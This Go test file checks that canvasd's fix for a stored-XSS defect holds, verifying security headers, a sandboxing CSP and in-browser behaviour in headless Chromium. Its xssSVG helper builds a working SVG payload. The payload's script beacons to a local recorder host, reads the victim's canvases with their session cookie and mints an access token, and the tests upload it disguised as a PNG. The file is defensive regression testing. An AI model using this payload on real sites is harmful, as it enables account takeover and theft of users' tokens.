package server

// Issue 13, defect 1: stored XSS through an uploaded SVG, account takeover
// with the victim's session cookie. These tests plant the SVG the way the
// hostile tester did, over a real port, and one of them runs it in real
// headless Chromium.

import (
	"bytes"
	"context"
	"fmt"
	"io/fs"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/canvasd/canvasd/internal/headless"
	"github.com/canvasd/canvasd/store"
	"github.com/canvasd/canvasd/web"
	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/rs/zerolog"
)

// xssSVG is a valid SVG image whose script, should it ever run on our
// origin, reports to the recorder at rec and then does what the hostile
// tester's did: lists the victim's canvases and mints an access token for
// user uid with the ambient session cookie.
func xssSVG(rec string, uid uint64) []byte {
	js := fmt.Sprintf(`
var R = %q;
function beacon(stage, extra) {
  try { fetch(R + '/hit?stage=' + stage + '&where=' + encodeURIComponent(location.href) + (extra || ''), {mode: 'no-cors'}); } catch (e) {}
}
beacon('start');
try { document.title = 'XSS-RAN'; } catch (e) {}
fetch('/api/v1/canvases', {credentials: 'include'}).then(function (r) { return r.text(); }).then(function (t) {
  beacon('list', '&n=' + t.length);
  return fetch('/api/v1/users/%d/access-tokens', {method: 'POST', credentials: 'include',
    headers: {'Content-Type': 'application/json'}, body: '{"description":"xss"}'});
}).then(function (r) { beacon('token', '&status=' + r.status); }).catch(function () { beacon('error'); });
`, rec, uid)
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" viewBox="0 0 120 80">
<rect width="120" height="80" fill="#c33"/>
<script type="text/javascript"><![CDATA[` + js + `]]></script>
</svg>`)
}

// rasterTypes are the media types a blob may be served inline with.
var xssRasterTypes = map[string]bool{"image/png": true, "image/jpeg": true, "image/gif": true, "image/webp": true}

// checkNotInline fails unless a 200 blob response is either a raster image
// or an attachment under a sandboxing CSP, with nosniff either way.
func checkNotInline(t *testing.T, what string, r *testResp) {
	t.Helper()
	if r.Status != http.StatusOK {
		t.Errorf("%s: status %d, want 200: %s", what, r.Status, r)
		return
	}
	mt, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type"))
	csp := r.Header.Get("Content-Security-Policy")
	sandboxed := strings.Contains(csp, "sandbox") && strings.Contains(csp, "default-src 'none'")
	disp, _, _ := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
	if got := r.Header.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, got)
	}
	if !sandboxed {
		t.Errorf("%s: blob served without the sandbox CSP (Content-Security-Policy %q)", what, csp)
	}
	if !xssRasterTypes[mt] || bytes.Contains(r.Body, []byte("<script")) {
		if disp != "attachment" || !sandboxed {
			t.Errorf("%s: %s served inline (Content-Disposition %q, Content-Security-Policy %q)", what, mt,
				r.Header.Get("Content-Disposition"), csp)
		}
	}
}

func TestSecurity01_SVGNotServedInline(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	victim := e.createUser("victim", false)
	attacker := e.createUser("attacker", false)
	cv := e.createCanvas(victim.Token, "board")
	e.share(victim.Token, cv, attacker.ID, "edit")
	svg := xssSVG("http://127.0.0.1:9", victim.ID)

	var planted []string // element ids holding the SVG as version 0
	// 1. An editor uploads it through the Canvus API, disguised as a PNG.
	r := e.upload(cv.path("/images"), attacker.Token, testPart{Name: "data", Filename: "cat.png", ContentType: "image/png", Data: svg})
	planted = append(planted, r.expect(t, 200).obj(t).id())
	// 2. With a raster source render, so that the element has a source URL too.
	r = e.upload(cv.path("/images"), attacker.Token,
		testPart{Name: "data", Filename: "logo.svg", ContentType: "image/svg+xml", Data: svg},
		testPart{Name: "source", Filename: "page.png", ContentType: "image/png", Data: testPNG(t, 64, 48)})
	withSource := r.expect(t, 200).obj(t).id()
	planted = append(planted, withSource)
	// 3. A guest, anonymous, on a link-edit canvas.
	e.setLink(victim.Token, cv, "edit")
	r = e.upload(cv.path("/images"), "", testPart{Name: "data", Filename: "guest.svg", Data: svg})
	planted = append(planted, r.expect(t, 200).obj(t).id())

	// No deal or Canvus path turns an SVG into a later version or a source:
	// recrop refuses the element, an SVG source render and an HTML file are
	// refused at upload.
	e.doJSON("POST", "/api/canvas/"+cv.ID+"/images/"+planted[0]+"/recrop", "",
		map[string]any{"user_bbox": map[string]any{"x": 0, "y": 0, "width": 0.5, "height": 0.5}},
		withHeader("Authorization", "Bearer "+attacker.Token)).expect(t, 422)
	e.upload(cv.path("/images"), attacker.Token, testPart{Name: "data", Filename: "a.png", Data: testPNG(t, 8, 8)},
		testPart{Name: "source", Filename: "s.svg", Data: svg}).expect(t, 400)
	e.upload(cv.path("/images"), attacker.Token, testPart{Name: "data", Filename: "x.html", ContentType: "text/html",
		Data: []byte("<!doctype html><html><body><script>alert(1)</script></body></html>")}).expect(t, 400)

	// The victim's session cookie, as a browser would hold it.
	for _, id := range planted {
		vs := e.doJSON("GET", "/api/canvas/"+cv.ID+"/images/"+id+"/versions", "", nil,
			withHeader("Authorization", "Bearer "+victim.Token)).expect(t, 200).obj(t)
		versions, _ := vs["versions"].([]any)
		if len(versions) != 1 {
			t.Fatalf("element %s: %d versions, want 1", id, len(versions))
		}
		urls := []string{jsonObj(versions[0].(map[string]any)).str("versioned_url")}
		if src := vs.obj("source"); src != nil {
			urls = append(urls, src.str("url"))
		}
		for _, u := range urls {
			checkNotInline(t, "GET "+u+" (bearer)", e.do("GET", u, "", nil, "", withHeader("Authorization", "Bearer "+victim.Token)))
			checkNotInline(t, "GET "+u+" (Private-Token)", e.do("GET", u, victim.Token, nil, ""))
			checkNotInline(t, "GET "+u+" (cookie)", e.do("GET", u, "", nil, "", withCookie(SessionCookie, victim.Token)))
			checkNotInline(t, "GET "+u+" (guest)", e.do("GET", u, "", nil, ""))
		}
		dl := cv.path("/images/" + id + "/download")
		checkNotInline(t, "GET "+dl, e.do("GET", dl, victim.Token, nil, ""))
		checkNotInline(t, "GET "+dl+" (cookie)", e.do("GET", dl, "", nil, "", withCookie(SessionCookie, victim.Token)))
	}
	// The source of element 2 is the raster render: inline is fine there,
	// and the SVG itself is what version 0 answers, as an attachment.
	v0 := e.do("GET", "/api/canvas/"+cv.ID+"/images/"+withSource+"/versions/0.png", victim.Token, nil, "")
	if mt, _, _ := mime.ParseMediaType(v0.Header.Get("Content-Type")); mt != "image/svg+xml" || !bytes.Equal(v0.Body, svg) {
		t.Errorf("version 0 of an SVG element: %s, %d bytes; want the SVG as image/svg+xml (an <img> still shows it)", mt, len(v0.Body))
	}
}

// webTestEnv is a testEnv whose server also serves the browser client at /.
func webTestEnv(t *testing.T) *testEnv {
	t.Helper()
	dir := t.TempDir()
	st, err := store.Open(dir, store.Options{})
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	h := NewHub(st, 0)
	srv := New(Config{}, st, h, zerolog.Nop(), WithWeb(web.FS()))
	srv.Start()
	if _, _, err := Bootstrap(st, testAdminToken); err != nil {
		t.Fatalf("bootstrap: %v", err)
	}
	ts := httptest.NewServer(srv.Handler())
	e := &testEnv{t: t, Dir: dir, Admin: testAdminToken, Store: st, Hub: h, Srv: srv, HTTP: ts, URL: ts.URL,
		Client: &http.Client{Timeout: 60 * time.Second,
			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
	t.Cleanup(e.Close)
	return e
}

// recorder is a second origin that counts the beacons of xssSVG.
type recorder struct {
	mu   sync.Mutex
	hits []url.Values
	svg  []byte // served inline at /control.svg, the positive control
	ts   *httptest.Server
}

func newRecorder(t *testing.T) *recorder {
	rc := &recorder{}
	rc.ts = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/hit":
			rc.mu.Lock()
			rc.hits = append(rc.hits, r.URL.Query())
			rc.mu.Unlock()
		case "/control.svg":
			rc.mu.Lock()
			svg := rc.svg
			rc.mu.Unlock()
			w.Header().Set("Content-Type", "image/svg+xml")
			w.Write(svg)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(rc.ts.Close)
	return rc
}

// from returns the beacons whose page was on origin (a URL prefix).
func (rc *recorder) from(origin string) []url.Values {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	var out []url.Values
	for _, h := range rc.hits {
		if strings.HasPrefix(h.Get("where"), origin) {
			out = append(out, h)
		}
	}
	return out
}

// newChromium starts headless Chromium with an empty profile.
func newChromium(t *testing.T) context.Context {
	t.Helper()
	const chromiumPath = headless.Path
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Fatalf("this test needs headless Chromium at %s: %v", chromiumPath, err)
	}
	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), headless.Options(t.TempDir(),
		chromedp.WindowSize(1024, 768),
	)...)
	ctx, cancel := chromedp.NewContext(allocCtx)
	t.Cleanup(func() { cancel(); cancelAlloc() })
	ctx, cancelT := context.WithTimeout(ctx, 2*time.Minute) // a safety net only
	t.Cleanup(cancelT)
	if err := chromedp.Do(ctx); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	return ctx
}

// navigateAnyway opens url in the tab without requiring a document to load
// (an attachment is a download, which Chromium aborts), then lets the page
// settle.
func navigateAnyway(t *testing.T, ctx context.Context, u string) {
	t.Helper()
	if _, err := chromedp.Call(ctx, page.Navigate, page.NavigateParams{URL: u}); err != nil {
		t.Fatalf("navigate %s: %v", u, err)
	}
	if err := chromedp.Do(ctx, chromedp.Sleep(500*time.Millisecond)); err != nil {
		t.Fatal(err)
	}
}

func TestSecurity01_SVGScriptDoesNotRunInChromium(t *testing.T) {
	e := webTestEnv(t)
	rc := newRecorder(t)
	victim := e.createUserPW("victim", false, "victim-password")
	attacker := e.createUser("attacker", false)
	cv := e.createCanvas(victim.Token, "deals")
	e.share(victim.Token, cv, attacker.ID, "edit")
	svg := xssSVG(rc.ts.URL, victim.ID)
	rc.mu.Lock()
	rc.svg = svg
	rc.mu.Unlock()
	el := e.upload(cv.path("/images"), attacker.Token, testPart{Name: "data", Filename: "chart.svg", Data: svg}).expect(t, 200).obj(t).id()
	version := "/api/canvas/" + cv.ID + "/images/" + el + "/versions/0.png"
	download := cv.path("/images/" + el + "/download")

	// The victim signs in: the browser holds the CanvusSession cookie.
	login := e.doJSON("POST", "/api/v1/users/login", "", map[string]any{"email": victim.Email, "password": victim.Password}).expect(t, 200)
	var session string
	for _, ck := range login.Cookies {
		if ck.Name == SessionCookie {
			session = ck.Value
		}
	}
	if session == "" {
		t.Fatal("login set no session cookie")
	}
	tokensPath := fmt.Sprintf("/api/v1/users/%d/access-tokens", victim.ID)
	tokensBefore := len(e.doJSON("GET", tokensPath, e.Admin, nil).expect(t, 200).list(t))

	ctx := newChromium(t)
	var consoleMu sync.Mutex
	var console []string
	consoleCtx, stopConsole := context.WithCancel(ctx)
	consoleDone := make(chan struct{})
	go func() {
		defer close(consoleDone)
		for m, err := range chromedp.Console(consoleCtx) {
			if err != nil {
				return
			}
			consoleMu.Lock()
			console = append(console, string(m.Type)+": "+m.Text)
			consoleMu.Unlock()
		}
	}()
	defer func() {
		stopConsole()
		<-consoleDone
		consoleMu.Lock()
		defer consoleMu.Unlock()
		for _, m := range console {
			t.Logf("console %s", m)
		}
	}()
	if _, err := chromedp.CallBrowser(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny}); err != nil {
		t.Fatalf("deny downloads: %v", err)
	}
	if _, err := chromedp.Call(ctx, network.SetCookie, network.SetCookieParams{Name: SessionCookie, Value: session, URL: e.URL + "/",
		HTTPOnly: ptr(true), SameSite: network.CookieSameSiteLax}); err != nil {
		t.Fatalf("set cookie: %v", err)
	}

	// Positive control: the same SVG served inline from another origin runs,
	// and its beacon reaches the recorder. So silence below means the script
	// did not run, not that the beacon cannot be heard.
	navigateAnyway(t, ctx, rc.ts.URL+"/control.svg")
	e.eventually("control beacon", func() bool { return len(rc.from(rc.ts.URL+"/control.svg")) > 0 })

	// 1. The victim opens the version URL directly, and the download URL.
	navigateAnyway(t, ctx, "about:blank")
	navigateAnyway(t, ctx, e.URL+version)
	title, _ := chromedp.Run(ctx, chromedp.Title())
	if title == "XSS-RAN" {
		t.Errorf("direct navigation to %s: the SVG's script ran (document.title %q)", version, title)
	}
	navigateAnyway(t, ctx, e.URL+download)

	// 2. A page of our origin (the web client) shows it in an <img> and an
	// <iframe>. The <img> must still render it: that is the legitimate use.
	if err := chromedp.Do(ctx, chromedp.Navigate(e.URL+"/")); err != nil {
		t.Fatalf("open the web client: %v", err)
	}
	inject := fmt.Sprintf(`(() => {
		window.__frames = 0; console.log('xss-test: injecting');
		const img = document.createElement('img'); img.id = 'xss-img'; img.src = %q; document.body.append(img);
		for (const u of [%q, %q]) {
			const f = document.createElement('iframe'); f.src = u; f.addEventListener('load', () => window.__frames++); document.body.append(f);
		}
		return true;
	})()`, version, version, download)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](inject)); err != nil {
		t.Fatalf("inject: %v", err)
	}
	ok, err := chromedp.Run(ctx, chromedp.Poll[bool](`(() => { const i = document.getElementById('xss-img'); return i.complete && i.naturalWidth > 0; })()`,
		chromedp.WithPollingTimeout(15*time.Second), chromedp.WithPollingInterval(50*time.Millisecond)))
	if err != nil || !ok {
		w, _ := chromedp.Run(ctx, chromedp.Evaluate[float64](`document.getElementById('xss-img').naturalWidth`))
		t.Fatalf("the <img> of the SVG version did not render (naturalWidth %v): %v", w, err)
	}
	// Let the frames load (or be refused) and any script that did start
	// finish its requests.
	if err := chromedp.Do(ctx, chromedp.Sleep(2*time.Second)); err != nil {
		t.Fatal(err)
	}
	frames, _ := chromedp.Run(ctx, chromedp.Evaluate[float64](`window.__frames`))
	t.Logf("iframe load events: %v", frames)

	if hits := rc.from(e.URL); len(hits) > 0 {
		t.Errorf("the SVG's script ran on canvasd's origin: %d beacons, e.g. %v", len(hits), hits[0])
	}
	if n := len(e.doJSON("GET", tokensPath, e.Admin, nil).expect(t, 200).list(t)); n != tokensBefore {
		t.Errorf("the victim has %d access tokens, had %d: the SVG's script minted one", n, tokensBefore)
	}
}

func ptr[T any](v T) *T { return &v }

var (
	inlineScriptRE  = regexp.MustCompile(`(?is)<script\b([^>]*)>(.*?)</script>`)
	eventAttrRE     = regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`)
	styleInHTMLRE   = regexp.MustCompile(`(?i)<style\b|\sstyle\s*=`)
	handlerInJSRE   = regexp.MustCompile(`(?i)\son[a-z]+\s*=\s*\\?["']|javascript:`)
	styleAttrInJSRE = regexp.MustCompile(`(?i)setAttribute\(\s*["']style["']|\sstyle\s*=\s*\\?["']|style:\s*["'\x60]`)
)

func TestSecurity01_SecurityHeaders(t *testing.T) {
	e := webTestEnv(t)
	u := e.createUser("owner", false)
	cv := e.createCanvas(u.Token, "headers")
	img := e.mustImage(u.Token, cv, "p.png", testPNG(t, 32, 24)).id()

	common := func(what string, r *testResp) {
		t.Helper()
		if got := r.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", what, got)
		}
		if got := r.Header.Get("Referrer-Policy"); got != "no-referrer" && got != "same-origin" {
			t.Errorf("%s: Referrer-Policy %q", what, got)
		}
		if got := r.Header.Get("X-Frame-Options"); got != "DENY" {
			t.Errorf("%s: X-Frame-Options %q", what, got)
		}
		if csp := r.Header.Get("Content-Security-Policy"); csp == "" {
			t.Errorf("%s: no Content-Security-Policy", what)
		}
	}
	// API responses, of every dialect and status.
	for _, r := range []*testResp{
		e.doJSON("GET", "/api/v1/server-info", "", nil).expect(t, 200),
		e.doJSON("GET", "/api/v1/canvases", u.Token, nil).expect(t, 200),
		e.doJSON("GET", "/api/v1/canvases", "", nil).expect(t, 401),
		e.doJSON("GET", "/api/v1/nothing", u.Token, nil).expect(t, 404),
		e.doJSON("POST", "/api/v1/users/login", "", map[string]any{"email": "nobody@example.com", "password": "x"}).expect(t, 401),
		e.doJSON("GET", "/api/canvas/"+cv.ID+"/images/"+img+"/versions", "", nil, withHeader("Authorization", "Bearer "+u.Token)).expect(t, 200),
		e.doJSON("GET", "/healthz", "", nil).expect(t, 200),
		e.doJSON("GET", "/openapi.yaml", "", nil).expect(t, 200),
		e.doJSON("POST", "/uncrop/v1", "", nil),
		e.doJSON("GET", "/v1/outputs/x.png", "", nil),
	} {
		what := r.Method + " " + r.Path
		common(what, r)
		csp := r.Header.Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("%s: API Content-Security-Policy %q, want default-src 'none' and frame-ancestors 'none'", what, csp)
		}
	}
	// The web client: its own policy, no inline script.
	for _, p := range []string{"/", "/c/" + cv.ID, "/app.js", "/style.css", "/favicon.svg"} {
		r := e.do("GET", p, "", nil, "").expect(t, 200)
		common("GET "+p, r)
		csp := r.Header.Get("Content-Security-Policy")
		if !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") ||
			!strings.Contains(csp, "frame-ancestors 'none'") || !strings.Contains(csp, "object-src 'none'") {
			t.Errorf("GET %s: web client Content-Security-Policy %q", p, csp)
		}
		if p == "/" {
			for _, m := range inlineScriptRE.FindAllStringSubmatch(string(r.Body), -1) {
				if !strings.Contains(m[1], "src=") || strings.TrimSpace(m[2]) != "" {
					t.Errorf("index.html has an inline script: %q", m[0])
				}
			}
			if m := eventAttrRE.FindString(string(r.Body)); m != "" {
				t.Errorf("index.html has an inline event handler: %q", m)
			}
			if m := styleInHTMLRE.FindString(string(r.Body)); m != "" {
				t.Errorf("index.html has inline style: %q", m)
			}
		}
	}
	// The client's scripts build no inline handlers or style attributes,
	// which the policy would block.
	fs.WalkDir(web.FS(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".js") {
			return err
		}
		data, _ := fs.ReadFile(web.FS(), p)
		if m := handlerInJSRE.FindString(string(data)); m != "" {
			t.Errorf("%s builds an inline event handler: %q", p, m)
		}
		if m := styleAttrInJSRE.FindString(string(data)); m != "" {
			t.Errorf("%s sets a style attribute: %q", p, m)
		}
		return nil
	})
	// Blob responses of user content: sandboxed.
	for _, p := range []string{"/api/canvas/" + cv.ID + "/images/" + img + "/versions/0.png", "/api/canvas/" + cv.ID + "/images/" + img + "/source", cv.path("/images/" + img + "/download")} {
		r := e.do("GET", p, u.Token, nil, "").expect(t, 200)
		common("GET "+p, r)
		if csp := r.Header.Get("Content-Security-Policy"); csp != "default-src 'none'; sandbox" {
			t.Errorf("GET %s: blob Content-Security-Policy %q, want \"default-src 'none'; sandbox\"", p, csp)
		}
	}
}

func TestSecurity01_DealCookieOnlyForImageGETs(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t)
	u := e.createUserPW("owner", false, "owner-password")
	cv := e.createCanvas(u.Token, "deal")
	// An element with a raster source render, so recrop applies.
	el := e.upload(cv.path("/images"), u.Token, testPart{Name: "data", Filename: "c.png", Data: testPNG(t, 40, 30)},
		testPart{Name: "source", Filename: "s.png", Data: testPNG(t, 200, 150)}).expect(t, 200).obj(t).id()
	login := e.doJSON("POST", "/api/v1/users/login", "", map[string]any{"email": u.Email, "password": u.Password}).expect(t, 200)
	var session string
	for _, ck := range login.Cookies {
		if ck.Name == SessionCookie {
			session = ck.Value
		}
	}
	if session == "" {
		t.Fatal("login set no session cookie")
	}
	cookie := withCookie(SessionCookie, session)
	base := "/api/canvas/" + cv.ID + "/images/" + el
	box := map[string]any{"user_bbox": map[string]any{"x": 0.1, "y": 0.1, "width": 0.5, "height": 0.5}}

	// Cookie only: every non-image deal route is unauthenticated.
	e.doJSON("POST", base+"/recrop", "", box, cookie).expect(t, 401)
	e.doJSON("GET", base+"/versions", "", nil, cookie).expect(t, 401)
	e.doJSON("POST", "/api/canvas/"+cv.ID+"/images/batch-digitize", "", map[string]any{"element_ids": []string{el}}, cookie).expect(t, 401)
	// No version was made.
	vs := e.doJSON("GET", base+"/versions", "", nil, withHeader("Authorization", "Bearer "+u.Token)).expect(t, 200).obj(t)
	if n := vs.num("current_version"); n != 0 {
		t.Fatalf("current_version %v after cookie-only recrop, want 0", n)
	}

	// Cookie only still loads the images, as a browser <img> does.
	for _, p := range []string{base + "/versions/0.png", base + "/source"} {
		r := e.do("GET", p, "", nil, "", cookie).expect(t, 200)
		if mt, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type")); mt != "image/png" {
			t.Errorf("GET %s with the cookie: %s, want image/png", p, mt)
		}
	}

	// The token headers work everywhere.
	e.doJSON("POST", base+"/recrop", "", box, withHeader("Authorization", "Bearer "+u.Token)).expect(t, 200)
	e.doJSON("POST", base+"/recrop", u.Token, box).expect(t, 200)
	e.doJSON("GET", base+"/versions", u.Token, nil).expect(t, 200)
	e.do("GET", base+"/versions/2.png", "", nil, "", cookie).expect(t, 200)
}
